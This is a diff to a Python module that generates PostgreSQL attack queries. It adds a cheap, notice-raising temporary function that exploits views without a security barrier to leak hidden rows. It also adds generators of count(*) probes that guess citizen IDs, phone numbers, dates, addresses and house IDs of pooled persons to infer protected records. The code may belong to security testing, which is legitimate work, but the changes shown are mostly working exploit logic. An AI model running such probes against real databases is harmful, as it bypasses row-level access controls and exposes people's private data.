@@ -19,12 +19,16 @@ RUN = """DO $attack$ DECLARE s text; r record; BEGIN
   EXCEPTION WHEN others THEN RAISE NOTICE '%% %%', SQLSTATE, SQLERRM; END;
  END LOOP; END $attack$"""
 
+# A function of the caller's own, cheap enough to be asked first: a view without a barrier shows it hidden rows.
+TELL = """CREATE FUNCTION pg_temp.tell(value anyelement) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS
+ $$ BEGIN RAISE NOTICE 'told %', value; RETURN true; END $$"""
+
 
 def batch(statements):
     return RUN % ("ARRAY[" + ", ".join(quote(s) for s in statements) + "]")
 
 
-def probes(caller, per_group):
+def of_functions(caller, per_group):
     """Calls of many guesses each; call.parts holds the single statements."""
     for function in caller.functions:
         if function.schema == "pg_catalog" or function.kind != "f" or not (function.definer or function.volatile != "i"):
@@ -53,6 +57,40 @@ def guesses(caller, function, at, plain, per_group):
             arguments = others[:last]
             arguments[at] = "%s::%s" % (quote(value), caller.surface.type_name(function.types[at]))
             yield "SELECT * FROM %s(%s)" % (function.called(), ", ".join(arguments))
+
+
+def of_relations(caller, per_group):
+    """Conditions on columns by which hidden rows are found, in the forms that count rows; with a function that tells what it sees."""
+    pool = caller.maker.pool
+    for relation in caller.ours:
+        columns = relation.readable()
+        told = Call(relation.name, TELL + "; SELECT count(*) FROM %s t WHERE %s" % (relation.name, " AND ".join('pg_temp.tell(t."%s")' % c[0] for c in columns)))
+        told.parts = [told.text]
+        yield told
+        named = {c[0] for c in columns}
+        for person in [p for p in pool.persons if p.group != "foreign" and p.index in (0, 14, 17, 1)[:per_group]]:
+            for name, oid in columns:
+                plain = caller.surface.types[oid][6]
+                if plain in ("citizen_id", "phone", "date", "address", "int8"):
+                    tests = list(conditions(pool, person, name, plain, named))
+                    for test in tests if per_group > 2 else tests[:2]:
+                        call = Call(relation.name, "SELECT count(*) FROM %s WHERE %s" % (relation.name, test))
+                        call.counted = True
+                        yield call
+
+
+def conditions(pool, person, name, plain, named):
+    if plain == "int8":
+        if name == "house_id":
+            for version in "ab":
+                if "person_id" in named:
+                    yield "person_id = %s AND house_id = %s" % (person.id, person.houses[version][0])
+                yield "house_id = %s" % person.houses[version][0]
+        return
+    guessed = values(pool, person, plain)
+    for value in guessed[-2:] if plain == "date" else guessed:
+        for operator in ("=", ">=", "<"):
+            yield '"%s" OPERATOR(%s.%s) %s' % (name, "pg_catalog" if plain == "date" else "ybss", operator, quote(value))
 
 
 def values(pool, person, plain):
